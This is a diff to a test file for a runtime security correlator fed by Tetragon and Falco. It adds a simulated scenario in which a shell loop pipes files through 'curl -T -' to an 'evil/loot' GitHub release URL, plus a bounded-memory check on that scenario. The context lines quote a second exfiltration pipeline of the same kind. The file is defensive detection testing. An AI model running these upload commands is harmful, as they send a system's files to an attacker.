@@ -70,6 +70,42 @@ describe.each(['tetragon', 'falco'] as const)('a deep exec chain under one live 
   }
 });
 
+/**
+ * `for f in …; do cat $f | curl -T - URL & sleep 1.2; done`: each curl, a stdin push, runs 1.5 s, so the next is
+ * exec'd under the same shell while it still runs, more than PIPE_LEAD_MS later: a late producer of its pipeline
+ * (pipeline.ts noteExec, `rare.pipeEp`), and a push of its own. Push k held curl k, whose pipeEp held push k-1.
+ */
+function overlappingStdinPushes(source: 'tetragon' | 'falco'): Scenario {
+  const s = new Scenario({ source });
+  const c = s.container();
+  const init = s.init(c);
+  const url = 'https://uploads.github.com/repos/evil/loot/releases/1/assets';
+  const sh = s.exec(c, '/bin/sh', `-c "for f in /srv/out/*; do cat $f | curl -T - ${url} & sleep 1.2; done"`, {
+    parent: init,
+  });
+  let previous: Proc | null = null;
+  for (let i = 0; i < DEPTH / 2; i++) {
+    if (i % 50 === 0) s.read(sh, '/srv/app/config.yaml', 100);
+    const curl = s.exec(c, '/usr/bin/curl', `-sS -T - ${url}?name=part-${i}.tgz`, { parent: sh });
+    s.wait(300);
+    if (previous !== null) s.exit(previous);
+    s.wait(900);
+    previous = curl;
+  }
+  return s;
+}
+
+describe.each(['tetragon', 'falco'] as const)('overlapping stdin pushes under one shell (%s)', (source) => {
+  it('hold a bounded number of process states, not every pusher since the first', () => {
+    const { correlator } = makeCorrelator();
+    const s = overlappingStdinPushes(source);
+    const before = liveProcStates();
+    for (let i = 0; i < s.events.length; i += 1024) correlator.ingest(s.events.slice(i, i + 1024));
+    // The pushers not yet expired and the node's recent execs: not the 2,500 (2,501 held before the cut).
+    expect(liveProcStates() - before).toBeLessThanOrEqual(1_000);
+  });
+});
+
 describe('a stdin push whose process left the tables', () => {
   it('tetragon: (sleep 11; cat data) | curl -T - URL, curl evicted before cat starts: cat is still its pipeline → high', async () => {
     const url = 'https://uploads.github.com/repos/evil/loot/releases/1/assets?name=d.tgz';
